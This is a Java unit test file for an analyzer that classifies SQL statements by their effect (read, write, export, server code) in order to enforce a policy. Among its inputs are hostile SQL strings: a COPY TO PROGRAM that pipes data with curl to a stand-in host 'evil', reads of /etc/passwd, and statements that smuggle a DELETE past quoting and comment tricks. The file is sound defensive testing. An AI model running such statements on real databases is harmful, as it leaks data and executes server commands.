@@ -1,0 +1,414 @@
+package dev.airlock.policy.sql;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.time.Duration;
+import java.util.List;
+import java.util.concurrent.CountDownLatch;
+import java.util.concurrent.ExecutorService;
+import java.util.concurrent.Executors;
+import java.util.concurrent.Future;
+import org.junit.jupiter.api.Test;
+
+class SqlAnalyzerTest {
+
+    private final SqlAnalyzer analyzer = new SqlAnalyzer();
+
+    private SqlStatement one(String sql) {
+        SqlAnalysis a = analyzer.analyze(sql);
+        assertThat(a.statements()).as(sql).hasSize(1);
+        return a.statements().get(0);
+    }
+
+    private static TableRef t(String name) {
+        return new TableRef(null, name);
+    }
+
+    private static TableRef t(String schema, String name) {
+        return new TableRef(schema, name);
+    }
+
+    // ---- plain statements
+
+    @Test
+    void readsSelectWithJoinsAndSchemas() {
+        SqlStatement s = one("SELECT a.x, count(*) FROM public.accounts a JOIN \"Orders\" o ON o.a = a.id, items "
+                + "WHERE a.id = $1 GROUP BY 1");
+        assertThat(s.type()).isEqualTo("SELECT");
+        assertThat(s.kind()).isEqualTo(SqlKind.READ);
+        assertThat(s.tablesRead()).containsExactlyInAnyOrder(t("public", "accounts"), t("Orders"), t("items"));
+        assertThat(s.tablesWritten()).isEmpty();
+        assertThat(s.functions()).containsExactly("count");
+        assertThat(s.unparsed()).isFalse();
+    }
+
+    @Test
+    void foldsUnquotedIdentifiersToLowerCase() {
+        assertThat(one("select * from Sales.CUSTOMERS").tablesRead()).containsExactly(t("sales", "customers"));
+    }
+
+    @Test
+    void reportsInsertUpdateDeleteMergeTargets() {
+        SqlStatement ins = one("INSERT INTO audit.log (a, b) SELECT x, y FROM src");
+        assertThat(ins.kind()).isEqualTo(SqlKind.WRITE);
+        assertThat(ins.type()).isEqualTo("INSERT");
+        assertThat(ins.tablesWritten()).containsExactly(t("audit", "log"));
+        assertThat(ins.tablesRead()).containsExactly(t("src"));
+
+        SqlStatement upd = one("UPDATE ONLY accounts SET balance = 0 FROM limits l WHERE l.id = accounts.id");
+        assertThat(upd.type()).isEqualTo("UPDATE");
+        assertThat(upd.tablesWritten()).containsExactly(t("accounts"));
+        assertThat(upd.tablesRead()).containsExactly(t("limits"));
+        assertThat(upd.whereAbsent()).isFalse();
+
+        SqlStatement merge = one("MERGE INTO target t USING source s ON t.id = s.id "
+                + "WHEN MATCHED THEN UPDATE SET v = s.v WHEN NOT MATCHED THEN INSERT (id, v) VALUES (s.id, s.v)");
+        assertThat(merge.type()).isEqualTo("MERGE");
+        assertThat(merge.kind()).isEqualTo(SqlKind.WRITE);
+        assertThat(merge.tablesWritten()).containsExactly(t("target"));
+        assertThat(merge.tablesRead()).containsExactly(t("source"));
+    }
+
+    @Test
+    void flagsUpdateAndDeleteWithoutWhere() {
+        assertThat(one("DELETE FROM customers").whereAbsent()).isTrue();
+        assertThat(one("UPDATE customers SET x = (SELECT 1 FROM y WHERE z)").whereAbsent()).isTrue();
+        assertThat(one("DELETE FROM customers WHERE id = 1").whereAbsent()).isFalse();
+        assertThat(one("DELETE FROM customers WHERE CURRENT OF c").whereAbsent()).isFalse();
+        assertThat(one("WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d").whereAbsent()).isTrue();
+    }
+
+    // ---- effective kind
+
+    @Test
+    void deniesDeleteHiddenInCte() {
+        SqlStatement s = one("WITH gone AS (DELETE FROM customers WHERE true RETURNING *) SELECT count(*) FROM gone");
+        assertThat(s.type()).isEqualTo("SELECT");
+        assertThat(s.kind()).isEqualTo(SqlKind.WRITE);
+        assertThat(s.tablesWritten()).containsExactly(t("customers"));
+        assertThat(s.tablesRead()).doesNotContain(t("gone"));
+    }
+
+    @Test
+    void readsCteColumnListsAndRecursiveCtes() {
+        SqlStatement s = one("WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 5), "
+                + "\"Q\" AS MATERIALIZED (SELECT * FROM base) SELECT * FROM r, \"Q\"");
+        assertThat(s.kind()).isEqualTo(SqlKind.READ);
+        assertThat(s.tablesRead()).containsExactly(t("base"));
+    }
+
+    @Test
+    void explainAnalyzeRunsTheStatement() {
+        SqlStatement plain = one("EXPLAIN DELETE FROM t");
+        assertThat(plain.type()).isEqualTo("EXPLAIN");
+        assertThat(plain.kind()).isEqualTo(SqlKind.READ);
+        assertThat(one("EXPLAIN ANALYZE DELETE FROM t").kind()).isEqualTo(SqlKind.WRITE);
+        assertThat(one("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1").kind()).isEqualTo(SqlKind.WRITE);
+        assertThat(one("EXPLAIN (ANALYZE false) UPDATE t SET a = 1").kind()).isEqualTo(SqlKind.READ);
+        assertThat(one("EXPLAIN (ANALYZE 1) UPDATE t SET a = 1").kind()).isEqualTo(SqlKind.WRITE);
+        assertThat(one("EXPLAIN ANALYSE VERBOSE INSERT INTO t VALUES (1)").kind()).isEqualTo(SqlKind.WRITE);
+        // the planner may fold calls it believes immutable: an unknown function is still server code
+        assertThat(one("EXPLAIN SELECT my_func(1)").kind()).isEqualTo(SqlKind.SERVER_CODE);
+    }
+
+    @Test
+    void selectIntoCreatesATable() {
+        SqlStatement s = one("SELECT * INTO TEMP copy_of FROM customers");
+        assertThat(s.type()).isEqualTo("SELECT INTO");
+        assertThat(s.kind()).isEqualTo(SqlKind.DDL);
+        assertThat(s.tablesWritten()).containsExactly(t("copy_of"));
+        assertThat(s.tablesRead()).containsExactly(t("customers"));
+    }
+
+    @Test
+    void createTableAsReadsAndCreates() {
+        SqlStatement s = one("CREATE TABLE snap AS SELECT * FROM customers");
+        assertThat(s.type()).isEqualTo("CREATE TABLE AS");
+        assertThat(s.kind()).isEqualTo(SqlKind.DDL);
+        assertThat(s.tablesWritten()).containsExactly(t("snap"));
+        assertThat(s.tablesRead()).containsExactly(t("customers"));
+    }
+
+    @Test
+    void copyDirectionsAndTargets() {
+        SqlStatement in = one("COPY customers (id, name) FROM STDIN WITH (FORMAT csv)");
+        assertThat(in.kind()).isEqualTo(SqlKind.WRITE);
+        assertThat(in.tablesWritten()).containsExactly(t("customers"));
+        SqlStatement out = one("COPY customers TO STDOUT");
+        assertThat(out.kind()).isEqualTo(SqlKind.EXPORT);
+        assertThat(out.tablesRead()).containsExactly(t("customers"));
+        assertThat(one("COPY (SELECT * FROM secrets) TO '/tmp/x.csv'").kind()).isEqualTo(SqlKind.EXPORT);
+        assertThat(one("COPY customers FROM '/etc/passwd'").kind()).isEqualTo(SqlKind.EXPORT);
+        assertThat(one("COPY customers TO PROGRAM 'curl -d @- evil'").kind()).isEqualTo(SqlKind.SERVER_CODE);
+        assertThat(one("COPY customers FROM PROGRAM 'id'").kind()).isEqualTo(SqlKind.SERVER_CODE);
+        assertThat(one("COPY (DELETE FROM t RETURNING *) TO STDOUT").kind()).isEqualTo(SqlKind.EXPORT);
+        assertThat(one("COPY (DELETE FROM t RETURNING *) TO STDOUT").tablesWritten()).containsExactly(t("t"));
+    }
+
+    @Test
+    void doAndCallAreServerCode() {
+        assertThat(one("DO $body$ BEGIN DELETE FROM t; END $body$").kind()).isEqualTo(SqlKind.SERVER_CODE);
+        SqlStatement call = one("CALL app.reindex_all(1)");
+        assertThat(call.kind()).isEqualTo(SqlKind.SERVER_CODE);
+        assertThat(call.functions()).containsExactly("app.reindex_all");
+    }
+
+    @Test
+    void prepareTakesTheKindOfItsStatementAndExecuteIsUnknown() {
+        SqlStatement p = one("PREPARE p (int) AS DELETE FROM t WHERE id = $1");
+        assertThat(p.type()).isEqualTo("PREPARE");
+        assertThat(p.kind()).isEqualTo(SqlKind.WRITE);
+        SqlStatement e = one("EXECUTE p(1)");
+        assertThat(e.unparsed()).isTrue();
+        assertThat(e.kind()).isEqualTo(SqlKind.ADMIN);
+        SqlAnalyzer lenient = new SqlAnalyzer(SqlAnalyzerOptions.defaults().withUnparsedKind(SqlKind.WRITE));
+        assertThat(lenient.analyze("EXECUTE p(1)").kind()).isEqualTo(SqlKind.WRITE);
+    }
+
+    @Test
+    void lockingClausesAreWrites() {
+        assertThat(one("SELECT * FROM t FOR UPDATE").kind()).isEqualTo(SqlKind.WRITE);
+        assertThat(one("SELECT * FROM t FOR NO KEY UPDATE SKIP LOCKED").kind()).isEqualTo(SqlKind.WRITE);
+        assertThat(one("SELECT * FROM t FOR KEY SHARE OF t NOWAIT").kind()).isEqualTo(SqlKind.WRITE);
+    }
+
+    @Test
+    void functionsWithSideEffectsRaiseTheKind() {
+        assertThat(one("SELECT nextval('s')").kind()).isEqualTo(SqlKind.WRITE);
+        assertThat(one("SELECT pg_catalog.setval('s', 1)").kind()).isEqualTo(SqlKind.WRITE);
+        assertThat(one("SELECT pg_read_file('/etc/passwd')").kind()).isEqualTo(SqlKind.EXPORT);
+        assertThat(one("SELECT lo_export(1, '/tmp/x')").kind()).isEqualTo(SqlKind.EXPORT);
+        assertThat(one("SELECT * FROM dblink_exec('x', 'drop table t')").kind()).isEqualTo(SqlKind.SERVER_CODE);
+        assertThat(one("SELECT set_config('role', 'admin', false)").kind()).isEqualTo(SqlKind.DCL);
+        assertThat(one("SELECT pg_terminate_backend(42)").kind()).isEqualTo(SqlKind.ADMIN);
+        assertThat(one("SELECT lower(name), coalesce(a, b), now() FROM t").kind()).isEqualTo(SqlKind.READ);
+        assertThat(one("SELECT my_schema.do_things()").kind()).isEqualTo(SqlKind.SERVER_CODE);
+        assertThat(one("SELECT public.count(x) FROM t").kind()).isEqualTo(SqlKind.SERVER_CODE);
+        assertThat(one("SELECT x FROM t WHERE a = 1 AND NOT evil(a)").functions()).contains("evil");
+        assertThat(one("SELECT extract(year FROM ts), substring(s FROM 2 FOR 3) FROM t").tablesRead())
+                .containsExactly(t("t"));
+        assertThat(one("SELECT x::numeric(10,2), CAST(y AS varchar(3)) FROM t").kind()).isEqualTo(SqlKind.READ);
+    }
+
+    @Test
+    void catalogueAndUnknownFunctionKindAreConfigurable() {
+        SqlAnalyzer custom = new SqlAnalyzer(SqlAnalyzerOptions.defaults()
+                .withCatalogue(FunctionCatalogue.defaults().with("app.safe_*", SqlKind.READ))
+                .withUnknownFunctionKind(SqlKind.WRITE));
+        assertThat(custom.analyze("SELECT app.safe_lookup(1)").kind()).isEqualTo(SqlKind.READ);
+        assertThat(custom.analyze("SELECT other(1)").kind()).isEqualTo(SqlKind.WRITE);
+    }
+
+    @Test
+    void classifiesUtilityStatements() {
+        assertThat(one("BEGIN").kind()).isEqualTo(SqlKind.TRANSACTION);
+        assertThat(one("SET search_path = public").kind()).isEqualTo(SqlKind.SESSION);
+        assertThat(one("SET ROLE admin").kind()).isEqualTo(SqlKind.DCL);
+        assertThat(one("SET SESSION AUTHORIZATION postgres").kind()).isEqualTo(SqlKind.DCL);
+        assertThat(one("GRANT SELECT ON t TO bob").kind()).isEqualTo(SqlKind.DCL);
+        assertThat(one("CREATE ROLE bob").kind()).isEqualTo(SqlKind.DCL);
+        assertThat(one("VACUUM FULL t").kind()).isEqualTo(SqlKind.ADMIN);
+        assertThat(one("ALTER SYSTEM SET work_mem = '1GB'").kind()).isEqualTo(SqlKind.ADMIN);
+        SqlStatement drop = one("DROP TABLE IF EXISTS a, s.b CASCADE");
+        assertThat(drop.kind()).isEqualTo(SqlKind.DDL);
+        assertThat(drop.type()).isEqualTo("DROP TABLE");
+        assertThat(drop.tablesWritten()).containsExactlyInAnyOrder(t("a"), t("s", "b"));
+        SqlStatement trunc = one("TRUNCATE TABLE ONLY a, b RESTART IDENTITY");
+        assertThat(trunc.kind()).isEqualTo(SqlKind.WRITE);
+        assertThat(trunc.tablesWritten()).containsExactlyInAnyOrder(t("a"), t("b"));
+        assertThat(one("CREATE UNIQUE INDEX CONCURRENTLY i ON t USING btree (lower(a))").type())
+                .isEqualTo("CREATE INDEX");
+        assertThat(one("CREATE OR REPLACE FUNCTION f(a int) RETURNS int LANGUAGE sql AS $$ DELETE FROM t $$").kind())
+                .isEqualTo(SqlKind.DDL);
+        assertThat(one("CREATE EXTENSION dblink").kind()).isEqualTo(SqlKind.ADMIN);
+        assertThat(one("frobnicate the database").unparsedReason()).contains("FROBNICATE");
+    }
+
+    // ---- lexical tricks
+
+    @Test
+    void backslashInStandardStringDoesNotEscapeTheQuote() {
+        SqlAnalysis a = analyzer.analyze("SELECT 'a\\'; DELETE FROM t; --'");
+        assertThat(a.statements()).hasSize(2);
+        assertThat(a.kind()).isEqualTo(SqlKind.WRITE);
+    }
+
+    @Test
+    void escapedQuoteInExtendedStringHidesTheSemicolon() {
+        SqlAnalysis a = analyzer.analyze("SELECT E'\\''; DELETE FROM t; --'");
+        assertThat(a.statements()).hasSize(2);
+        assertThat(a.kind()).isEqualTo(SqlKind.WRITE);
+        SqlAnalysis b = analyzer.analyze("SELECT E'\\'; DELETE FROM t; --'");
+        assertThat(b.statements()).hasSize(1);
+        assertThat(b.kind()).isEqualTo(SqlKind.READ);
+    }
+
+    @Test
+    void nestedBlockCommentsHideWhatTheyContain() {
+        SqlAnalysis a = analyzer.analyze("SELECT 1 /* outer /* inner */ ; DELETE FROM t; */ ; SELECT 2");
+        assertThat(a.statements()).hasSize(2);
+        assertThat(a.kind()).isEqualTo(SqlKind.READ);
+        assertThat(analyzer.analyze("SELECT 1 /* never closed /* */").unparsed()).isTrue();
+    }
+
+    @Test
+    void lineCommentEndsAtCarriageReturn() {
+        // the comment ends at \r: what follows is read (here "delete" is a bare column label)
+        SqlAnalysis a = analyzer.analyze("SELECT 1 -- comment\rDELETE FROM t");
+        assertThat(a.statements()).hasSize(1);
+        assertThat(a.tablesRead()).containsExactly(t("t"));
+        assertThat(analyzer.analyze("SELECT 1; -- comment\rDELETE FROM t").kind()).isEqualTo(SqlKind.WRITE);
+    }
+
+    @Test
+    void dollarQuotesNeedTheirOwnTag() {
+        SqlAnalysis a = analyzer.analyze("SELECT $a$ $$; DELETE FROM t; $$ $a$; SELECT $_1$x$_1$");
+        assertThat(a.statements()).hasSize(2);
+        assertThat(a.kind()).isEqualTo(SqlKind.READ);
+        assertThat(analyzer.analyze("SELECT $a$ never closed $b$").unparsed()).isTrue();
+        assertThat(analyzer.analyze("SELECT a$b$ FROM t").tablesRead()).containsExactly(t("t"));
+    }
+
+    @Test
+    void decodesUnicodeIdentifiers() {
+        assertThat(one("SELECT * FROM U&\"d\\0061t\\+000061\"").tablesRead()).containsExactly(t("data"));
+        assertThat(one("SELECT * FROM U&\"d!0061t!+000061\" UESCAPE '!'").tablesRead()).containsExactly(t("data"));
+        assertThat(one("SELECT * FROM \"Ünïcødé\".\"ТАБЛИЦА\"").tablesRead())
+                .containsExactly(t("Ünïcødé", "ТАБЛИЦА"));
+        // only ASCII letters are folded, as in a UTF8 server
+        assertThat(one("SELECT * FROM ÜBER").tablesRead()).containsExactly(t("Über"));
+        assertThat(analyzer.analyze("SELECT * FROM U&\"\\zzzz\"").unparsed()).isTrue();
+        assertThat(analyzer.analyze("SELECT U&'x' UESCAPE '+'").unparsed()).isTrue();
+    }
+
+    @Test
+    void truncatesLongIdentifiersLikeTheServer() {
+        String longName = "a".repeat(100);
+        assertThat(one("SELECT * FROM " + longName).tablesRead()).containsExactly(t("a".repeat(63)));
+    }
+
+    @Test
+    void rejectsNumbersWithTrailingJunk() {
+        assertThat(analyzer.analyze("SELECT 123abc").unparsed()).isTrue();
+        assertThat(analyzer.analyze("SELECT 0x1F, 0o17, 0b101, 1_000_000, 1.5e-3, .5").unparsed()).isFalse();
+    }
+
+    // ---- splitting
+
+    @Test
+    void splitsMultiStatementStringsAsTheServerDoes() {
+        SqlAnalysis a = analyzer.analyze(";;SELECT 1;; INSERT INTO t VALUES (';');\nDROP TABLE x;");
+        assertThat(a.statements()).extracting(SqlStatement::type).containsExactly("SELECT", "INSERT", "DROP TABLE");
+        assertThat(a.kind()).isEqualTo(SqlKind.DDL);
+        assertThat(analyzer.analyze("").statements()).isEmpty();
+        assertThat(analyzer.analyze("").kind()).isEqualTo(SqlKind.READ);
+    }
+
+    @Test
+    void keepsSqlStandardRoutineBodiesTogether() {
+        SqlAnalysis a = analyzer.analyze("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC "
+                + "SELECT CASE WHEN true THEN 1 END; SELECT 2; END; SELECT 3");
+        assertThat(a.statements()).extracting(SqlStatement::type).containsExactly("CREATE FUNCTION", "SELECT");
+    }
+
+    @Test
+    void keepsRuleActionsTogether() {
+        SqlAnalysis a = analyzer.analyze("CREATE RULE r AS ON INSERT TO t DO ALSO (INSERT INTO l VALUES (1); "
+                + "DELETE FROM m); SELECT 1");
+        assertThat(a.statements()).extracting(SqlStatement::type).containsExactly("CREATE RULE", "SELECT");
+    }
+
+    @Test
+    void semicolonInsideParenthesesIsNeverReadAsHarmless() {
+        SqlStatement s = one("SELECT (1; DROP TABLE x)");
+        assertThat(s.unparsed()).isTrue();
+        assertThat(s.kind()).isEqualTo(SqlKind.ADMIN);
+    }
+
+    // ---- limits
+
+    @Test
+    void deepNestingIsUnparsedInLinearTime() {
+        int depth = 200_000;
+        String sql = "SELECT " + "(".repeat(depth) + "1" + ")".repeat(depth);
+        long start = System.nanoTime();
+        SqlStatement s = one(sql);
+        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(2));
+        assertThat(s.unparsedReason()).contains("nesting deeper than 1000");
+        assertThat(s.kind()).isEqualTo(SqlKind.ADMIN);
+        assertThat(one("SELECT " + "(".repeat(500) + "1" + ")".repeat(500)).unparsed()).isFalse();
+    }
+
+    @Test
+    void oneMegabyteStatementIsAnalysedInLinearTime() {
+        StringBuilder b = new StringBuilder("INSERT INTO big (a, b) VALUES ");
+        while (b.length() < 1_048_576) {
+            b.append("(1, 'x'''), ");
+        }
+        b.append("(2, $$y$$)");
+        long start = System.nanoTime();
+        SqlStatement s = one(b.toString());
+        assertThat(Duration.ofNanos(System.nanoTime() - start)).isLessThan(Duration.ofSeconds(2));
+        assertThat(s.kind()).isEqualTo(SqlKind.WRITE);
+        assertThat(s.tablesWritten()).containsExactly(t("big"));
+    }
+
+    @Test
+    void tooLongIsUnparsedWithAClearReason() {
+        SqlAnalyzer small = new SqlAnalyzer(SqlAnalyzerOptions.defaults().withMaxLength(10));
+        SqlAnalysis a = small.analyze("SELECT 1 FROM t");
+        assertThat(a.kind()).isEqualTo(SqlKind.ADMIN);
+        assertThat(a.statements().get(0).unparsedReason()).isEqualTo("statement too long: 15 characters (limit 10)");
+    }
+
+    // ---- fingerprint and cache
+
+    @Test
+    void fingerprintIgnoresLiteralsParametersCommentsAndCase() {
+        String a = analyzer.analyze("SELECT * FROM t WHERE id = 1 AND s = 'x'").fingerprint();
+        String b = analyzer.analyze("select *  from T /* c */ where ID = $1 and s = E'y'").fingerprint();
+        String c = analyzer.analyze("SELECT * FROM \"T\" WHERE id = 1 AND s = 'x'").fingerprint();
+        assertThat(a).isEqualTo(b).hasSize(32).isNotEqualTo(c);
+    }
+
+    @Test
+    void cacheIsBoundedAndServesEqualShapes() {
+        SqlAnalyzer cached = new SqlAnalyzer(SqlAnalyzerOptions.defaults().withCacheSize(10));
+        SqlAnalysis first = cached.analyze("SELECT * FROM t WHERE id = 1");
+        assertThat(cached.analyze("SELECT * FROM t WHERE id = 2")).isSameAs(first);
+        for (int i = 0; i < 100; i++) {
+            cached.analyze("SELECT c" + i + " FROM t");
+        }
+        assertThat(cached.cachedShapes()).isLessThanOrEqualTo(10);
+    }
+
+    @Test
+    void analysesConcurrently() throws Exception {
+        List<String> corpus = List.of("SELECT 1", "DELETE FROM t", "WITH x AS (UPDATE t SET a=1) SELECT 1",
+                "COPY t TO STDOUT", "SELECT nextval('s')");
+        List<SqlKind> expected = corpus.stream().map(s -> new SqlAnalyzer().analyze(s).kind()).toList();
+        ExecutorService pool = Executors.newFixedThreadPool(4);
+        try {
+            CountDownLatch go = new CountDownLatch(1);
+            List<Future<Boolean>> results = new java.util.ArrayList<>();
+            for (int th = 0; th < 4; th++) {
+                results.add(pool.submit(() -> {
+                    go.await();
+                    for (int r = 0; r < 2000; r++) {
+                        int k = r % corpus.size();
+                        if (analyzer.analyze(corpus.get(k)).kind() != expected.get(k)) {
+                            return false;
+                        }
+                    }
+                    return true;
+                }));
+            }
+            go.countDown();
+            for (Future<Boolean> f : results) {
+                assertThat(f.get()).isTrue();
+            }
+        } finally {
+            pool.shutdownNow();
+        }
+    }
+}
